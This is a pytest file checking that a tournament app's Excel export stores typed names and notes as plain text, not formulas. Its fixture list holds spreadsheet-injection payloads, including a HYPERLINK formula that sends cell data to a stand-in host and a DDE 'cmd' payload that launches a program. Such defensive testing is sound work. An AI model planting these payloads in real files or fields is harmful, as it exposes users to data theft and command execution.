"""The workbook writes every typed text as text: a name beginning with ``=`` is never a formula.

The hostile names are written straight into the tournament's file (as an
import or an older version may have let them in), on every sheet that shows
a typed text: Classement, Équipes, Tours and Paramètres.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlmodel import select

from tests.conftest import WHO, new_tournament
from tests.services.test_draws import finish_round
from tournoi.exports import documents
from tournoi.exports.documents import Document
from tournoi.services import draws
from tournoi.services.draws import DrawMethod
from tournoi.storage import models

HOSTILE = (
    '=HYPERLINK("http://exemple.invalid/?"&A1,"Cliquez")',
    "=cmd|' /C calc'!A0",
    "+33 6 12 34 56 78",
    "-1+1",
    "@SOMME(A1:A9)",
    "\tTabulée",
    "#N/A",
    "=1+1",
)


def hostile(index: int) -> str:
    return HOSTILE[index % len(HOSTILE)]


@pytest.fixture
def workbook(tmp_path: Path) -> Path:
    """Seven teams (one exempt) after round 1, every typed text hostile; its workbook."""
    path = tmp_path / "piege.tournoi"
    db = new_tournament(path, teams=7, rounds=3)
    draws.draw_round(db, method=DrawMethod.RANDOM, seed=3, who=WHO)
    finish_round(db, 1)
    with db.session() as session:
        tournament = session.exec(select(models.Tournament)).one()
        tournament.name, tournament.place = HOSTILE[0], HOSTILE[1]
        tournament.organiser, tournament.arbiter = HOSTILE[2], HOSTILE[3]
        rows: list[models.SQLModel] = [tournament]
        for index, team in enumerate(session.exec(select(models.Team))):
            team.name = hostile(index)
            rows.append(team)
        for index, player in enumerate(session.exec(select(models.Player))):
            player.first_name = hostile(index)
            player.club, player.licence = hostile(index + 1), f"{hostile(index + 2)}{index}"
            rows.append(player)
        for index, partie in enumerate(session.exec(select(models.Partie))):
            partie.note = hostile(index + 3)
            rows.append(partie)
        round_row = session.exec(select(models.Round)).one()
        round_row.bye_note = HOSTILE[1]
        session.add_all([*rows, round_row])
    out = tmp_path / "piege.xlsx"
    documents.export(db, path=out, what=Document.STANDINGS)
    db.close()
    return out


def test_no_cell_of_any_sheet_is_a_formula(workbook: Path) -> None:
    book = load_workbook(workbook)
    kinds = {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row}
    assert "f" not in kinds and "e" not in kinds


@pytest.mark.parametrize(
    ("sheet", "column"),
    [
        ("Classement", "Équipe"),
        ("Équipes", "Équipe"),
        ("Équipes", "Joueur 1"),
        ("Équipes", "Club 1"),
        ("Équipes", "Licence 2"),
        ("Tours", "Équipe A"),
        ("Tours", "Équipe B"),
        ("Tours", "Note"),
        ("Paramètres", "Valeur"),
    ],
)
def test_every_typed_text_is_a_text_cell_as_typed(workbook: Path, sheet: str, column: str) -> None:
    rows = list(load_workbook(workbook)[sheet].iter_rows())
    index = [cell.value for cell in rows[0]].index(column)
    cells = [row[index] for row in rows[1:] if row[index].value is not None]
    typed = [cell for cell in cells if str(cell.value).startswith(("=", "+", "-", "@", "\t", "#"))]
    assert typed, f"no hostile text in {sheet} / {column}"
    for cell in typed:
        assert cell.data_type == "s", (sheet, column, cell.value)
        assert cell.value in HOSTILE or cell.value.startswith(HOSTILE)


def test_the_tournaments_identity_reads_as_typed(workbook: Path) -> None:
    values = {row[0].value: row[1] for row in load_workbook(workbook)["Paramètres"].iter_rows()}
    for label, typed in zip(
        ("Tournoi", "Lieu", "Organisateur", "Arbitre"), HOSTILE[:4], strict=True
    ):
        assert (values[label].value, values[label].data_type) == (typed, "s")


def test_a_control_character_is_left_out_not_a_failure(tmp_path: Path) -> None:
    path = tmp_path / "controle.tournoi"
    db = new_tournament(path, teams=4)
    with db.session() as session:
        team = session.exec(select(models.Team).where(models.Team.number == 1)).one()
        team.name = "Les\x01 As\x1f"
        session.add(team)
    documents.export(db, path=tmp_path / "controle.xlsx", what=Document.STANDINGS)
    db.close()
    rows = list(load_workbook(tmp_path / "controle.xlsx")["Équipes"].iter_rows(values_only=True))
    assert rows[1][:2] == (1, "Les As")
